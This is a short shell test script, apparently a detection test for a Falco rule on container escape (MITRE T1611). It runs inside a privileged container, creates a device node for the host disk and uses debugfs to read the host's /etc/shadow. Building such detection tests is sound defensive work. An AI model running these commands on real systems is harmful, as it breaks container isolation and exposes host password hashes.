# category: container-escape
# technique: T1611
# art: no
# expect: debugfs-in-container
# image: debian
# opts: --privileged
# desc: a privileged container runs debugfs on the host's disk device to read host files (Falco's Debugfs Launched in Privileged Container)
dev=$(cat /sys/block/*/dev 2>/dev/null | head -1)
mknod /tmp/hostdisk b "${dev%%:*}" "${dev##*:}"
debugfs -R 'cat /etc/shadow' /tmp/hostdisk || true
